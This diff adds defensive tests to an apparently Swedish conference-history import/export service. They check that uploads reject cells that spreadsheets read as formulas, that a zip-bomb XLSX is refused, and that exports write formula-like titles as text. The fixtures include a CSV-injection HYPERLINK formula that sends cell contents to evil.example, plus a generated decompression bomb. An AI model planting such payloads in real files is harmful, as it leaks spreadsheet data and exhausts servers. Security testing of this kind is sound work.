@@ -1,3 +1,5 @@
+import { parse as parseCsv } from 'csv-parse/sync';
+import JSZip from 'jszip';
 import type { CoverageItem, CoverageReport, ImportResult } from '@samverkan/coverage/contract';
 import { createConference, registrationBody } from './support/factories';
 import { createTestApp, DEMO, rowCounts, type TestApp } from './support/test-app';
@@ -10,6 +12,10 @@ const HEADER = 'record,conference,title,starts_on,ends_on,venue,format,minutes,f
 function csv(lines: string[]): Buffer {
   return Buffer.from([HEADER, ...lines].join('\n') + '\n', 'utf8');
 }
+
+/** What a spreadsheet reads as the start of a formula (OWASP), in any cell of an export. */
+const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
+const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A2,"klicka")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', '＝1+1', ' =1+1'];
 
 const GOOD_FILE = csv([
   'conference,it-2019-var,Vårkonferens 2019,2019-04-10,2019-04-11,Finspång,,,,,,',
@@ -284,6 +290,86 @@ describe('focus-area coverage', () => {
       expect(ok).toMatchObject({ applied: true, conferences: { created: 1 }, sessions: { created: 1 } });
     });
 
+    it('refuses text cells a spreadsheet would read as a formula, naming line and column', async () => {
+      const file = csv([
+        'conference,it-formula,"=HYPERLINK(""http://evil.example/?x=""&A2,""klicka"")",2019-04-10,,+46 Finspång,,,,,,',
+        'conference,@it-key,Bra titel,2019-04-10,,,,,,,,',
+        'session,it-formula,"\t=1+1",,,,seminar,30,skills,,,',
+        'session,it-formula,-2+3,,,,seminar,30,skills,,,',
+        'session,it-formula,＝1+1,,,,seminar,30,skills,,,',
+        'session,it-formula,Helt vanlig titel – med tankstreck,,,,seminar,30,skills,,,',
+      ]);
+      const before = await rowCounts(t.dataSource);
+      const dry = (await upload(file, 'formler.csv', '?dryRun=true').expect(200)).body as ImportResult;
+      expect(dry.errors.filter((e) => e.code === 'formula').map((e) => [e.line, e.column])).toEqual([
+        [2, 'title'],
+        [2, 'venue'],
+        [3, 'conference'],
+        [4, 'title'],
+        [5, 'title'],
+        [6, 'title'],
+      ]);
+      expect(dry.errors[0].message).toMatch(/^Texten börjar med "=", som kalkylprogram läser som en formel/);
+      const real = await upload(file, 'formler.csv').expect(422);
+      expect(real.body.result.errors.filter((e: { code: string }) => e.code === 'formula')).toHaveLength(6);
+      expect(await rowCounts(t.dataSource)).toEqual(before);
+
+      // The same from an XLSX: a text cell is read as written, a formula cell by its value.
+      const ExcelJS = (await import('exceljs')).default;
+      const workbook = new ExcelJS.Workbook();
+      const sheet = workbook.addWorksheet('Historik');
+      sheet.addRow(HEADER.split(','));
+      sheet.addRow(['conference', 'it-formula-x', '=1+1', '2019-04-10']);
+      const xlsx = Buffer.from(await workbook.xlsx.writeBuffer());
+      const fromXlsx = (await upload(xlsx, 'formler.xlsx', '?dryRun=true').expect(200)).body as ImportResult;
+      expect(fromXlsx.errors).toEqual([expect.objectContaining({ line: 2, column: 'title', code: 'formula' })]);
+    });
+
+    it('refuses a small XLSX that unpacks to too much before parsing it, and stops reading at the row cap', async () => {
+      const ExcelJS = (await import('exceljs')).default;
+      const base = new ExcelJS.Workbook();
+      base.addWorksheet('Historik').addRow(HEADER.split(','));
+      const withSheet = async (rows: string) => {
+        const zip = await JSZip.loadAsync(Buffer.from(await base.xlsx.writeBuffer()));
+        zip.file(
+          'xl/worksheets/sheet1.xml',
+          `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows}</sheetData></worksheet>`,
+        );
+        return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } });
+      };
+      const cell = (column: string, text: string) => `<c r="${column}" t="inlineStr"><is><t>${text}</t></is></c>`;
+      const header = `<row r="1">${HEADER.split(',')
+        .map((name, i) => cell(`${String.fromCharCode(65 + i)}1`, name))
+        .join('')}</row>`;
+
+      // A bomb: a few hundred kB under the 2 MB upload limit, some 40 MB of sheet XML unpacked.
+      const thousand = '<row><c t="inlineStr"><is><t>session</t></is></c></row>'.repeat(1000);
+      const bomb = await withSheet(header + thousand.repeat(700));
+      expect(bomb.length).toBeLessThan(2 * 1024 * 1024);
+      const before = await rowCounts(t.dataSource);
+      for (const query of ['?dryRun=true', '']) {
+        const res = await upload(bomb, 'bomb.xlsx', query).expect(413);
+        expect(res.body).toEqual({
+          statusCode: 413,
+          message: 'Arbetsboken blir för stor uppackad (högst 32 MB). Spara bladet som CSV eller dela upp filen.',
+          errors: { file: 'too-large' },
+        });
+      }
+      expect(await rowCounts(t.dataSource)).toEqual(before);
+
+      // Within the limit but over 20 000 rows: refused by count, and the reading stops at the cap (the XML
+      // after it is broken, which a full parse would report as an unreadable file).
+      const rows = Array.from(
+        { length: 20_500 },
+        (_, i) => `<row r="${i + 2}">${cell(`A${i + 2}`, 'session')}${cell(`B${i + 2}`, 'k')}</row>`,
+      );
+      const tooMany = await withSheet(header + rows.join('') + '<row><c><v>&broken;</oops>');
+      const counted = (await upload(tooMany, 'many.xlsx', '?dryRun=true').expect(200)).body as ImportResult;
+      expect(counted.errors).toEqual([
+        expect.objectContaining({ line: 1, code: 'too-many-rows', message: 'Filen har fler än 20000 rader.' }),
+      ]);
+    });
+
     it('refuses a missing file, another file type, and an unknown header', async () => {
       const none = await t.http.post(IMPORT).set('Authorization', committee).expect(400);
       expect(none.body.errors).toEqual({ file: 'required' });
@@ -337,5 +423,46 @@ describe('focus-area coverage', () => {
     await workbook.xlsx.load(xlsx.body as ArrayBuffer);
     expect(workbook.worksheets.map((w) => w.name)).toEqual(['Täckning', 'Deltagare', 'Luckor']);
     expect(workbook.getWorksheet('Luckor')?.rowCount).toBeGreaterThan(1);
+  });
+
+  it('exports conference titles that look like formulas as text, in CSV and XLSX', async () => {
+    // Stored before imports refused them (or written by any other way in): the exports must be safe anyway.
+    await t.dataSource.query(
+      `INSERT INTO past_conferences (import_key, title, starts_on, ends_on)
+       SELECT 'it-formula-' || n, title, '2012-05-01'::date + n::int, '2012-05-01'::date + n::int
+         FROM unnest($1::text[]) WITH ORDINALITY AS v(title, n)`,
+      [FORMULAS],
+    );
+    const res = await t.http.get(`${URL}/export.csv?fromYear=2012&toYear=2012`).set('Authorization', committee).expect(200);
+    const rows: string[][] = parseCsv(res.text, { bom: true });
+    const titles = new Set(rows.slice(1).map((row) => row[1]));
+    expect([...titles].sort()).toEqual(FORMULAS.map((title) => `'${title}`).sort());
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
+
+    const xlsx = await t.http
+      .get(`${URL}/export.xlsx?fromYear=2012&toYear=2012`)
+      .set('Authorization', committee)
+      .buffer(true)
+      .parse((response, done) => {
+        const chunks: Buffer[] = [];
+        response.on('data', (c: Buffer) => chunks.push(c));
+        response.on('end', () => done(null, Buffer.concat(chunks)));
+      })
+      .expect(200);
+    const ExcelJS = (await import('exceljs')).default;
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(xlsx.body as ArrayBuffer);
+    const shown = new Set<string>();
+    for (const sheet of workbook.worksheets) {
+      sheet.eachRow((row) =>
+        row.eachCell((cell) => {
+          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
+          expect(cell.formula).toBeFalsy();
+          if (typeof cell.value === 'string') shown.add(cell.value);
+        }),
+      );
+    }
+    // Written as text cells, unchanged (an XML parser reads a CR as LF): a spreadsheet never evaluates a text cell.
+    expect(FORMULAS.filter((title) => !shown.has(title.replace(/\r/g, '\n')))).toEqual([]);
   });
 });
